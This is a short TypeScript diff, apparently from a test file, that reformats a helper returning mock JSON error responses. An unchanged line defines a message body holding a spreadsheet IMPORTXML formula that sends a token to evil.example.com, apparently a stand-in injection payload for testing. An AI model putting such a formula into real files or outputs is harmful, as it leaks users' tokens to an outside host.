@@ -12,7 +12,9 @@ const ENGLISH = /\b(the|rejected|check|retry|retried|failed|failure|answered|une
 const BODY = `=IMPORTXML("https://evil.example.com/?t=${TOKEN}") Invalid token ${TOKEN}`;
 
 const json = (status: number, headers: Record<string, string> = {}): HttpResponse => ({
-  status, headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ success: false, code: status, msg: BODY }),
+  status,
+  headers: { 'content-type': 'application/json', ...headers },
+  body: JSON.stringify({ success: false, code: status, msg: BODY }),
 });
 
 /** Each answer, and whether the run retries it before giving up. */
